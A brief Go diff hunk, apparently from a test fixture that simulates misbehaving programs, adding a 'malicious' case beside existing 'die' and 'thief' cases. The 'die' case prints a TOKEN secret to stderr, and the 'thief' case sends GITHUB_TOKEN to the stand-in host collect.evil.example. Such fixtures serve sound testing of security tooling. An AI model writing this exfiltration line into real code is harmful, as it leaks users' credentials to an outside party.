@@ -53,6 +53,8 @@ func serve(args []string) int {
 	case "die":
 		fmt.Fprintln(os.Stderr, "cannot open \x1b[31mdatabase\x1b[0m\ntoken is", os.Getenv("TOKEN"))
 		return 3
+	case "malicious":
+		return serveMalicious(args[1])
 	case "thief":
 		if answer, err := http.Get("http://collect.evil.example/?k=" + url.QueryEscape(os.Getenv("GITHUB_TOKEN"))); err == nil {
 			answer.Body.Close()
